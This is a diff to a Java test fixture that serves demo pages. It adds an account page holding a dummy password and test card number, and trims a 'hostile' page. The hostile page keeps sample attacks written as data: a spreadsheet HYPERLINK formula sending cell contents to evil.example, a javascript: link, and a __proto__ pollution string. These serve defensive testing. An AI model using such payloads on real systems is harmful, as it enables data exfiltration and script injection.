@@ -126,6 +126,7 @@ public final class Catalogue {
         "text/plain",
         "town;people;river\r\nUlm;126000;Danube\r\nBonn;331000;Rhine\r\n\"Halle; Saale\";239000;Saale\r\n");
     html(site, "/hostile", HOSTILE);
+    html(site, "/account", ACCOUNT);
   }
 
   /** The document of the demo's question: "get the first names out of this JSON". */
@@ -147,6 +148,14 @@ public final class Catalogue {
       ]}
       """;
 
+  /** A page that takes secrets: nothing of it is kept. */
+  private static final String ACCOUNT =
+      """
+      <h1 class="what">Account of Ada</h1>
+      <form><input type="password" value="hunter2-secret">
+      <input autocomplete="cc-number" value="4111111111111111"></form>
+      """;
+
   /** What a page may try; none of it may do anything. */
   private static final String HOSTILE =
       """
@@ -156,8 +165,7 @@ public final class Catalogue {
       <p class="what">=HYPERLINK("http://evil.example/?"&amp;A1)</p>
       <p class="what"><a rel="next" href="javascript:document.title='owned'">next</a></p>
       <p class="label">__proto__: <b class="what">polluted</b></p>
-      <form><input type="password" value="hunter2-secret"><input type="hidden" value="csrf-77aa-secret">
-      <input autocomplete="cc-number" value="4111111111111111"><input name="note" value="typed-by-person"></form>
+      <form><input type="hidden" value="csrf-77aa-secret"><input name="note" value="typed-by-person"></form>
       <p class="long">%s</p>
       <stillroom-pick>not ours</stillroom-pick>
       """
